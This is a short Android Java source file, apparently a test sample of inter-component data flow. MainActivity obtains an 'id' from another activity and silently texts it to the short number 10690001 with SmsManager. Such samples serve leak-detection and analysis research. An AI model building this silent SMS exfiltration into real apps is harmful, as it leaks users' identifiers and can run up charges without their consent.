package cn.shanhai.activityresult;

import android.app.Activity;
import android.content.Intent;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    startActivityForResult(new Intent(this, IdActivity.class), 1);
  }

  @Override
  protected void onActivityResult(int request, int result, Intent data) {
    if (data != null) {
      SmsManager.getDefault().sendTextMessage("10690001", null, "r=" + data.getStringExtra("id"), null, null);
    }
  }
}
